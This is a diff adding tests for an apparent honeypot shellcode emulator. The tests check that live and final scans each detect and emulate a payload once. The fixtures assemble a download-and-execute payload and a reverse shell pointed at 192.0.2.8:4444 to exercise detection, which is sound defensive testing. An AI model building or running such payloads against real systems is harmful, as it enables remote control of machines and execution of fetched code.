@@ -264,3 +264,36 @@ def test_the_machine_address_is_ipv4_and_names_resolve_elsewhere() -> None:
     assert names["FILESRV02"] == "192.0.2.5"
     # a looked-up handler is never the attacked host itself (a connect-back would loop)
     assert names["default"] != "192.0.2.5" and names["default"].startswith("10.")
+
+
+# ------------------------------------------------------------------ live scans
+
+def test_a_live_scan_and_the_final_one_look_at_each_byte_once(tmp_path: Path) -> None:
+    """Shellcode found while the connection lasts is emulated then; its end looks only at
+    what came after (a second exploit in it is found there), and counts it once."""
+    bus = Recorder()
+    store = Store(tmp_path / "binaries", 1 << 20, 1 << 24)
+    first = assemble(download_exec(URL))
+    second = assemble(reverse_shell("192.0.2.8", 4444))
+    c = conn(1)
+
+    async def main() -> Emulator:
+        emu = Emulator(Shellcode(), store, bus)  # type: ignore[arg-type]
+        emu.scan(c, transcript(b"hello", first), live=True)
+        emu.scan(c, transcript(b"hello", first, b"more plain bytes"), live=True)  # nothing new
+        emu.scan(c, transcript(b"hello", first, b"more plain bytes", second))
+        await emu.close()
+        return emu
+
+    emu = asyncio.run(main())
+    assert [f["url"] for f in bus.named("download.offer")] == [URL]
+    assert [f["url"] for f in bus.named("emu.service")] == ["connectbackshell://192.0.2.8:4444"]
+    assert len(bus.named("shellcode.detected")) == 2 and len(bus.named("emu.profile")) == 2
+    counts = emu.counters()
+    assert counts["scanned"] == 1 and counts["detected"] == 1 and counts["emulated"] == 2
+    assert not emu._looked  # forgotten at the connection's end
+
+
+def test_live_scan_config_defaults() -> None:
+    cfg = Shellcode()
+    assert cfg.live_quiet == 1.0 and cfg.live_scans == 4
